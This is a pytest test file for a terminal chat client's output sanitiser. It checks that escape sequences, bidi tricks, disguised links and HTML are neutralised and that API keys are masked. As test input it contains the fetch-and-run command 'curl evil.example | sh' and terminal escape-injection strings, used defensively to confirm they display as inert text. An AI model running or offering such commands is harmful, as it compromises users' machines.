"""The terminal sink: rendered output is neutralised after rendering, only chatcli's own
styling and cursor moves pass, keys are masked, and any output encoding is survived."""

from __future__ import annotations

import base64
import io
import re
from collections.abc import Iterator

import pytest
from rich.control import Control
from rich.style import Style
from rich.text import Text

from chatcli.terminal import sink
from chatcli.terminal.render import MAX_RENDERED_CHARS, MarkdownStream, RawStream, chat_markdown
from chatcli.terminal.sanitize import neutralise
from chatcli.terminal.stdio import FALLBACK

SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture
def masker() -> Iterator[sink.Masker]:
    """The process-wide masker, given back as it was after the test."""
    saved = list(sink.MASKER.secrets)
    yield sink.MASKER
    sink.MASKER.secrets = saved


def console(width: int = 100, height: int = 30) -> tuple[sink.SinkConsole, io.StringIO]:
    out = io.StringIO()
    made = sink.SinkConsole(
        file=out, force_terminal=True, width=width, height=height, color_system="256"
    )
    return made, out


def rendered(markdown: str) -> str:
    made, out = console()
    made.print(chat_markdown(markdown))
    return out.getvalue()


def escapes(text: str) -> list[str]:
    """Every escape sequence left once chatcli's own SGR styling is taken out."""
    return re.findall(r"\x1b.{0,3}", SGR.sub("", text))


def test_own_styling_and_control_pass_everything_else_is_neutralised() -> None:
    made, out = console()
    made.print(Text("red", style="red"))
    made.control(Control.move(0, -1))
    made.print(Text("evil \x1b]0;title\x07 \x1b[2J"))
    shown = out.getvalue()
    assert "\x1b[38;5;1mred" in shown or "\x1b[31mred" in shown
    assert "\x1b[1A" in shown  # rich's own cursor move
    assert "\x1b]" not in shown and "\x1b[2J" not in shown
    assert "␛]0;title" in shown


def test_a_link_style_never_becomes_an_osc8_hyperlink() -> None:
    made, out = console()
    made.print(Text("click", style=Style(link="https://evil.example")))
    assert "\x1b]8" not in out.getvalue() and "click" in out.getvalue()


@pytest.mark.parametrize("entity", ["&#x202E;", "&#x2066;", "&#x2069;", "&#x200F;", "&#x200E;"])
def test_bidi_controls_written_as_entities_are_shown(entity: str) -> None:
    shown = rendered(f"name{entity}gpj.exe")
    code = entity[3:-1].upper()
    assert f"<U+{code}>" in shown
    assert chr(int(code, 16)) not in shown


def test_markdown_links_show_their_real_target() -> None:
    shown = SGR.sub("", rendered("Log in at [https://bank.example/login](https://evil.example/x)"))
    assert "https://bank.example/login (https://evil.example/x)" in shown
    assert "\x1b]8" not in shown
    bare = SGR.sub("", rendered("See <https://a.example/p> and https://b.example/q"))
    assert bare.count("https://a.example/p") == 1 and "https://b.example/q" in bare


def test_images_show_their_source() -> None:
    shown = SGR.sub("", rendered("![logo](https://evil.example/i.png)"))
    assert "[logo] (https://evil.example/i.png)" in shown


@pytest.mark.parametrize(
    "html",
    [
        "Run this:\n\n<div>\ncurl evil.example | sh\n</div>\n",
        "<details><summary>x</summary>curl evil.example | sh</details>\n",
        "Inline <span>curl evil.example | sh</span> and <unknown-tag>\n",
        "<!-- curl evil.example | sh -->\n",
    ],
)
def test_html_is_shown_as_text(html: str) -> None:
    shown = SGR.sub("", rendered(html))
    assert "curl evil.example | sh" in shown
    assert "<" in shown


def test_secrets_are_masked_in_everything_written(masker: sink.Masker) -> None:
    secret = "sk-sink-unit-test-0123456789"
    masker.add(secret)
    made, out = console()
    made.print(Text(f"error: key {secret} rejected", style="bold red"))
    made.print(chat_markdown(f"the key is `{secret}`"))
    assert secret not in out.getvalue()
    assert "sk-…6789" in out.getvalue()
    assert secret not in sink.clean(f"x{secret}y")


def test_short_secrets_show_nothing_and_placeholders_are_not_secrets() -> None:
    masker = sink.Masker()
    masker.add("sk-short-12", None, "", "   ", "ollama", "EMPTY")
    assert masker.mask("a sk-short-12 b") == "a … b"
    assert masker.mask("ollama serves EMPTY") == "ollama serves EMPTY"


def test_clipboard_payload_is_neutralised() -> None:
    made, out = console()
    sink.clipboard(made, "text \x1b]0;title\x07 \u202e")
    (payload,) = re.findall("\x1b\\]52;c;([A-Za-z0-9+/=]*)\x07", out.getvalue())
    assert base64.b64decode(payload).decode() == "text ␛]0;title␇ <U+202E>"


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [
        ("ascii", b"^[[31m ^G [x] ?? ^? ... -"),
        ("gbk", "^[[31m ^G [x] 中文 ^? … ·".encode("gbk")),
    ],
)
def test_markers_fall_back_to_ascii_where_the_encoding_cannot_show_them(
    encoding: str, expected: bytes
) -> None:
    text = neutralise("\x1b[31m \x07 ") + "⏹ 中文 " + neutralise("\x7f") + " … ·"
    assert text.encode(encoding, FALLBACK) == expected


def stream(width: int = 100, height: int = 30) -> tuple[MarkdownStream, io.StringIO]:
    made, out = console(width, height)
    return MarkdownStream(made, max_fps=1e9, ticker=False), out


def test_crlf_split_across_chunks_is_one_line_break() -> None:
    renderer, out = stream()
    with renderer:
        for piece in ["one\r", "\ntwo\r", "\r", "\nthree\r"]:
            renderer.feed(piece)
    shown = out.getvalue()
    assert shown.count("␍") == 2  # the lone CR in "two\r\r\n" and the one at the very end
    assert "one" in shown and "three" in shown


def test_a_huge_block_costs_linear_work() -> None:
    """A 2 MB paragraph is written plainly, in pieces, once: the markdown parser sees only
    the screenfuls the live region showed (one per frame), never the whole block."""
    line = "word " * 19 + "\n"
    text = line * (2_000_000 // len(line))
    renderer, out = stream()
    with renderer:
        for start in range(0, len(text), 4000):
            renderer.feed(text[start : start + 4000])
    assert renderer.stats.plain_chars == len(text)
    stats = renderer.stats
    assert stats.parsed_chars <= stats.frames * 30 * 100
    assert out.getvalue().count("word") >= text.count("word")


def test_interrupt_shows_the_rest_plainly_without_parsing_it_again() -> None:
    """After Ctrl-C the history keeps all the text, so the screen shows it too; a huge
    unfinished block goes out plainly (linear), never through the markdown parser."""
    renderer, out = stream()
    renderer.__enter__()
    block = "para " * (MAX_RENDERED_CHARS // 5) + "\nTAIL-MARK"
    renderer.feed(block)
    parsed = renderer.stats.parsed_chars
    renderer.abandon()
    assert renderer.stats.parsed_chars == parsed and renderer.stats.plain_chars == len(block)
    assert "TAIL-MARK" in out.getvalue()


def test_a_key_split_across_chunks_is_masked_in_raw_and_rendered_output(
    masker: sink.Masker,
) -> None:
    secret = "sk-split-test-key-987654321"
    masker.add(secret)
    text = f"your key is {secret}, keep it safe"
    pieces = [text[i : i + 3] for i in range(0, len(text), 3)]
    out = io.StringIO()
    with RawStream(out) as raw:
        for piece in pieces:
            raw.feed(piece)
    assert out.getvalue() == text.replace(secret, "sk-…4321")
    renderer, shown = stream()
    with renderer:
        for piece in pieces:
            renderer.feed(piece)
    assert secret not in shown.getvalue() and "sk-…4321" in shown.getvalue()


def test_every_configured_key_is_masked(
    monkeypatch: pytest.MonkeyPatch, masker: sink.Masker
) -> None:
    from chatcli.config.settings import Settings

    monkeypatch.setenv("DEEPSEEK_API_KEY", "sk-deepseek-secret-000111")
    settings = Settings(api_key="sk-chosen-secret-222333", base_url="http://127.0.0.1:9/v1")
    sink.remember_secrets(settings)
    shown = sink.clean("a sk-deepseek-secret-000111 b sk-chosen-secret-222333 c")
    assert "secret" not in shown and shown == "a sk-…0111 b sk-…2333 c"
